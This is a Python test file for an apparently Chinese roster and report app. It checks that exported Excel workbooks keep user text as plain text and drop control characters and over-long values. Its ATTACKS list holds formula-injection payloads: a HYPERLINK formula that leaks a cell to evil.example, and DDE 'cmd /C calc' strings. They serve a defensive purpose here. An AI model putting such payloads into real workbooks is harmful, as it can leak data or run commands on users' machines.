"""Issue 12 deliver 3: every workbook the app writes keeps user text as text (no formula
cell from user data, OWASP list) and drops what Excel cannot hold instead of crashing."""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import Workbook, load_workbook

from gridclient.imports.roster import read_roster, write_error_workbook
from gridclient.reports.data import Column, Report, ReportKind
from gridclient.reports.excel import HEADER_ROW, write_xlsx
from gridclient.reports.xlsxcells import MAX_CELL_CHARS, clean_text, header_footer_text
from gridcore.domain.entities import CST
from tests.unit.reports.sample import PERIOD

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&C5,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=1",
]


def _as_read(text: str) -> str:
    """A bare carriage return in a workbook's XML reads back as a line feed (the test's
    source roster, written by openpyxl, has one; our writers escape it)."""
    return text.replace("\r", "\n")


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return "".join(archive.read(n).decode("utf-8") for n in names)


def _assert_no_formula(path: Path) -> list[object]:
    """No formula anywhere in the file; returns every cell value."""
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    values: list[object] = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                assert cell.data_type != "e", (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(
                    ("=", "+", "-", "@", "\t", "\r")
                ):
                    assert cell.quotePrefix, cell.coordinate  # Excel keeps it text when edited
                values.append(cell.value)
    return values


def _report(unit: str, rows: list[tuple[object, ...]]) -> Report:
    return Report(
        kind=ReportKind.ROSTER,
        unit_name=unit,
        period=PERIOD,
        columns=(Column("序号", 4, numeric=True), Column("姓名", 10), Column("住址", 16)),
        rows=tuple(rows),
        totals=("合计", f"{len(rows)}人", ""),
        printed_at=datetime(2026, 10, 30, 1, 0, tzinfo=UTC),
        data_as_of=datetime(2026, 10, 29, 12, 0, tzinfo=CST),
    )


def test_report_export_writes_attacks_as_text(tmp_path: Path) -> None:
    rows: list[tuple[object, ...]] = [(n, text, text) for n, text in enumerate(ATTACKS, 1)]
    rows.append((99, "张\x01三\x1f\ud800\uffff", "幸福路\x0b1号"))
    rows.append((100, "长" * (MAX_CELL_CHARS + 10), "-"))
    path = tmp_path / "report.xlsx"
    write_xlsx(_report('=HYPERLINK("http://x")&F测试镇', rows), path)
    values = _assert_no_formula(path)
    for text in ATTACKS:
        assert values.count(text) == 2, text  # name and address, exactly as typed
    assert "张三" in values and "幸福路1号" in values
    assert "长" * MAX_CELL_CHARS in values
    sheet = load_workbook(path).active
    assert sheet is not None
    assert sheet.cell(HEADER_ROW + 1, 1).value == 1  # numbers stay numbers
    assert sheet.cell(HEADER_ROW + 1, 1).data_type == "n"
    assert sheet.cell(HEADER_ROW + 1, 2).number_format == "@"
    assert "A1:C1" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    assert "&&F" in sheet.oddHeader.center.text  # no field code from data


def test_error_workbook_writes_attacks_and_control_characters_as_text(tmp_path: Path) -> None:
    source = tmp_path / "roster.xlsx"
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["姓名", "身份证号", "住址"])
    for text in ATTACKS:
        ws.append([text, "bad", text])
        for cell in ws[ws.max_row]:
            cell.data_type = "s"  # a roster typed as text ('=…), as a user's file holds it
    # "_x0001_" is how a workbook stores a control character: readers decode it.
    ws.append(["张_x0001_三_x001F_", "bad", "幸福路_x000B_1号"])
    wb.save(source)
    preview = read_roster(source)
    assert any("\x01" in str(v) for r in preview.rejected for v in r.raw)
    errors = tmp_path / "errors.xlsx"
    assert write_error_workbook(preview, errors) == len(ATTACKS) + 1
    values = _assert_no_formula(errors)
    for text in ATTACKS:
        assert values.count(_as_read(text)) == 2, text
    assert "张三" in values and "幸福路1号" in values
    # Fixed and read again, the error workbook gives the same text back.
    again = read_roster(errors)
    names = {row.raw[2] for row in again.rows}
    assert {_as_read(t) for t in ATTACKS} <= names


def test_cleaning_rules() -> None:
    assert clean_text("a\x00b\x08c\td\ne\rf\x0b\x0c\x1fg") == "abc\td\ne\rfg"
    assert clean_text("x\ud800y\ufffez") == "xyz"
    assert header_footer_text("A&B") == "A&&B"
    assert re.fullmatch("长+", clean_text("长" * 40_000)) and len(clean_text("长" * 40_000)) == (
        MAX_CELL_CHARS
    )
